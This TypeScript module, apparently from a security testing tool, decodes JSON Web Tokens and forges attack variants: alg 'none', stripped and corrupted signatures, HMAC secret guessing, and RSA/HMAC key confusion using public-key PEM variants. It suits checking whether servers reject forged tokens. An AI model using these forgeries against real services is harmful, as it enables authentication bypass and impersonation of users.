/**
 * JSON Web Tokens as an attacker handles them (RFC 7519/7515): decode without verifying, and forge variants —
 * `alg: none`, a stripped or corrupted signature, HMAC signatures with a guessed secret or with the server's
 * public key (key confusion).
 */
import { createHmac, createPublicKey, timingSafeEqual } from 'node:crypto';

export interface DecodedJwt {
  readonly header: Record<string, unknown>;
  readonly payload: Record<string, unknown>;
  /** The three encoded parts as received. */
  readonly parts: readonly [string, string, string];
}

const JWT_SHAPE = /^[A-Za-z0-9_-]{2,}\.[A-Za-z0-9_-]{2,}\.[A-Za-z0-9_-]*$/;

/** Decodes a compact JWS without verifying it; undefined when `token` is not one. */
export function decodeJwt(token: string): DecodedJwt | undefined {
  if (token.length > 16_384 || !JWT_SHAPE.test(token)) return undefined;
  const parts = token.split('.') as [string, string, string];
  try {
    const header = JSON.parse(Buffer.from(parts[0], 'base64url').toString('utf8')) as unknown;
    const payload = JSON.parse(Buffer.from(parts[1], 'base64url').toString('utf8')) as unknown;
    if (!isObject(header) || !isObject(payload) || typeof header.alg !== 'string') return undefined;
    return { header, payload, parts };
  } catch {
    return undefined;
  }
}

/** The JWT inside a credential value (`Bearer eyJ…` or a bare token), or undefined. */
export function findJwt(value: string): string | undefined {
  const v = value.trim();
  const token = /^bearer\s+/i.test(v) ? v.replace(/^bearer\s+/i, '') : v;
  return decodeJwt(token) ? token : undefined;
}

export function b64url(s: string | Buffer): string {
  return Buffer.from(s).toString('base64url');
}

/** `header.payload.` with `alg` set to `none` (RFC 7518 §3.6 unsecured JWS); `variant` changes the case. */
export function forgeAlgNone(jwt: DecodedJwt, variant: 'none' | 'None' | 'NONE' = 'none'): string {
  return `${b64url(JSON.stringify({ ...jwt.header, alg: variant }))}.${jwt.parts[1]}.`;
}

/** The original header and payload with the signature removed. */
export function forgeStripped(jwt: DecodedJwt): string {
  return `${jwt.parts[0]}.${jwt.parts[1]}.`;
}

/** The token with its signature altered (same length), which a verifying server must refuse. */
export function forgeCorrupted(jwt: DecodedJwt): string {
  const sig = jwt.parts[2];
  if (!sig) return `${jwt.parts[0]}.${jwt.parts[1]}.${b64url('rampart-corrupted-signature')}`;
  const i = Math.max(0, Math.floor(sig.length / 2) - 1);
  const c = sig[i] === 'A' ? 'B' : 'A';
  return `${jwt.parts[0]}.${jwt.parts[1]}.${sig.slice(0, i)}${c}${sig.slice(i + 1)}`;
}

const HMAC: Record<string, string> = { HS256: 'sha256', HS384: 'sha384', HS512: 'sha512' };

/** Signs header (with `alg` replaced) and payload with HMAC under `key`. */
export function signHmac(header: Record<string, unknown>, payload: Record<string, unknown>, key: string | Buffer, alg: 'HS256' | 'HS384' | 'HS512' = 'HS256'): string {
  const input = `${b64url(JSON.stringify({ ...header, alg }))}.${b64url(JSON.stringify(payload))}`;
  return `${input}.${createHmac(HMAC[alg]!, key).update(input).digest('base64url')}`;
}

/** True when an HS* token's signature verifies under `key` (offline secret guessing). */
export function verifiesWithHmac(jwt: DecodedJwt, key: string | Buffer): boolean {
  const hash = HMAC[String(jwt.header.alg)];
  if (!hash) return false;
  const expected = createHmac(hash, key).update(`${jwt.parts[0]}.${jwt.parts[1]}`).digest();
  const got = Buffer.from(jwt.parts[2], 'base64url');
  return got.length === expected.length && timingSafeEqual(got, expected);
}

/**
 * PEM encodings of a public JWK that a confused server may use as an HMAC secret: SPKI and PKCS#1, each with and
 * without the trailing newline (libraries differ in what they read from disk).
 */
export function publicKeyPemVariants(jwk: Record<string, unknown>): string[] {
  try {
    const key = createPublicKey({ key: jwk as never, format: 'jwk' });
    const out: string[] = [];
    const spki = key.export({ type: 'spki', format: 'pem' }).toString();
    out.push(spki, spki.trimEnd());
    if (jwk.kty === 'RSA') {
      const pkcs1 = key.export({ type: 'pkcs1', format: 'pem' }).toString();
      out.push(pkcs1, pkcs1.trimEnd());
    }
    return out;
  } catch {
    return [];
  }
}

/** True when the token's `exp` claim is in the past at `now` (ms). */
export function isExpired(jwt: DecodedJwt, now: number): boolean {
  return typeof jwt.payload.exp === 'number' && jwt.payload.exp * 1000 <= now;
}

function isObject(v: unknown): v is Record<string, unknown> {
  return v !== null && typeof v === 'object' && !Array.isArray(v);
}
